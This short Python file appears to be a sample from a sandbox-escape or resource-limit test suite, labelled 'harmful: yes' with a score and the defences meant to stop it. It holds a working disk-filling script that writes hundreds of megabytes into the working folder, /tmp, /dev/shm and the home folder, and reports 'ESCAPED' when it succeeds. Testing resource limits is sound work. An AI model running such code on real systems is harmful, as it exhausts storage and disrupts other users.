"""It fills every folder that it may write, with many files of the size that is allowed.

earns: 4
harmful: yes
stopped by: root, rlimits
"""

import os

MEGABYTE = bytes(1 << 20)
written = 0
for folder in (".", "/tmp", "/dev/shm", os.environ.get("HOME", ".")):
    try:
        for number in range(1_000):
            with open(f"{folder}/full-{number}", "wb", buffering=0) as file:
                for _ in range(3):
                    written += file.write(MEGABYTE)
            if written > 256 << 20:
                break
    except OSError:
        continue
if written > 256 << 20:
    print("ESCAPED:", written >> 20, "MB of files")


def double(x):
    return 2 * x
